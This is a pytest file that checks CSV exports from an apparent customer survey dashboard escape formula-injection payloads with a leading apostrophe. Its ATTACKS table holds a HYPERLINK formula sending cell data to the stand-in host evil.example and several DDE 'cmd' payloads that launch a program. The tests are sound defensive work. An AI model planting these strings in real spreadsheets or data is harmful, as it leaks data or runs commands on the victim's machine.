"""CSV formula injection: customer and CRM text reaches a supervisor's spreadsheet as text.

Each answer below carries one dangerous first character in its comment and in the CRM's
channel, business type and staff fields; the real dashboard downloads must write every
such cell with a leading `'`, and keep our own negative figures numeric.
"""

from typing import Any

import pytest

from nps.reporting.rebuild import rollups_rebuild
from surveys.spreadsheets import FORMULA_STARTS
from tests.dashboard.builders import AT, PERIOD, URL, Data, client_for, csv_rows
from tests.followups.personas import Personas, personas_make
from tests.reporting.test_rollups import response_create

# One attack per first character OWASP lists, short enough for the CRM fields.
ATTACKS = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def crm_value(attack: str, field: str) -> str:
    return f"{attack}{field}"[:32]  # channel is the shortest field (32)


@pytest.fixture
def personas(db: Any) -> Personas:
    people = personas_make()
    for attack in ATTACKS.values():
        response_create(
            at=AT,
            score=2,
            comment=attack + " 等了很久",
            reasons=("network",),
            channel=crm_value(attack, "channel"),
            business_type=crm_value(attack, "business"),
            staff_id=crm_value(attack, "staff"),
        )
    rollups_rebuild()
    return people


def download(personas: Personas, table: str) -> list[list[str]]:
    client = client_for(personas.supervisor)
    return csv_rows(client.get(URL, {**PERIOD, "export": table}))


def test_every_dangerous_first_character_is_covered() -> None:
    assert set(ATTACKS) == set(FORMULA_STARTS)


@pytest.mark.parametrize("first", list(ATTACKS), ids=repr)
def test_a_comment_starting_a_formula_is_text_in_the_verbatims_csv(
    personas: Personas, first: str
) -> None:
    rows = download(personas, "verbatims")

    comments = [row[4] for row in rows[1:]]
    assert "'" + ATTACKS[first] + " 等了很久" in comments
    assert not any(c.startswith(FORMULA_STARTS) for c in comments)


@pytest.mark.parametrize("field", ["channel", "business_type", "agent"])
@pytest.mark.parametrize("first", list(ATTACKS), ids=repr)
def test_a_crm_field_starting_a_formula_is_text_in_its_breakdown_csv(
    personas: Personas, field: str, first: str
) -> None:
    rows = download(personas, f"breakdown_{field}")

    name = {"channel": "channel", "business_type": "business", "agent": "staff"}[field]
    neutral = "'" + crm_value(ATTACKS[first], name)
    values_and_labels = {(row[0], row[1]) for row in rows[1:]}
    assert (neutral, neutral) in values_and_labels
    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row[:2])


def test_a_negative_nps_change_stays_a_number_in_the_csv(data: Data) -> None:
    rows = csv_rows(client_for(data.personas.lead).get(URL, {**PERIOD, "export": "headline"}))

    assert rows[1][10] == "-60.0"  # North fell from 100 to 40: a number, no '
